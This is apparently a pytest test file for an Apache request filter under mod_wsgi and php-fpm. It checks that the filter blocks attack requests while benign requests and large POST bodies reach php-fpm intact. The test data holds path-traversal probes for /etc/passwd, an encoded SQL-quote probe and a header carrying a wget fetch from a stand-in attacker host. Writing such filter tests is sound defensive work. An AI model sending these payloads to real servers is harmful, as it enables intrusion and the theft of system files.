"""The mod_wsgi adapter under the event MPM with php-fpm.

``WSGIAccessScript`` sees the request line and headers; the ``ErrorDocument
403`` deny application turns its refusal into the configured status (500)
or redirect.  The body is not inspected there, so it reaches php-fpm as sent.
"""

from __future__ import annotations

import hashlib

import pytest

from .conftest import Site, php_digest

pytestmark = pytest.mark.apache


@pytest.mark.parametrize("path", [
    "/vulnerable.php?file=/etc/passwd",
    "/vulnerable.php?file=%2Fetc%2Fpasswd",
    "/vulnerable.php?file=/etc/motd",
    "/viewtopic.php?t=1&highlight=%2527",
])
def test_get_attacks_get_the_configured_status(wsgi_site: Site, path: str) -> None:
    reply = wsgi_site.get(path)
    assert reply.status == 500
    assert b"root:" not in reply.body


def test_an_attack_in_a_header_is_blocked(wsgi_site: Site) -> None:
    reply = wsgi_site.get("/vulnerable.php", {"User-Agent": "wget http://evil.example/x.pl"})
    assert reply.status == 500


def test_benign_requests_pass_to_php_fpm(wsgi_site: Site) -> None:
    reply = wsgi_site.get("/vulnerable.php?file=index.html")
    assert reply.status == 200
    assert b"apache_secfilter demo" in reply.body


def test_a_post_body_reaches_php_fpm_intact(wsgi_site: Site) -> None:
    body = b"a=1&b=" + b"z" * 50_000
    reply = wsgi_site.request("POST", "/post.php", body,
                              {"Content-Type": "application/x-www-form-urlencoded"})
    assert reply.status == 200
    assert php_digest(reply.body)["raw_md5"] == hashlib.md5(body).hexdigest()


def test_redirect_and_status_actions(wsgi_site: Site) -> None:
    reply = wsgi_site.get("/post.php?go=redirect-me")
    assert reply.status == 302
    assert reply.headers.get("location") == "http://www.example.test/landing"
    assert wsgi_site.get("/post.php?brew=status-me").status == 406
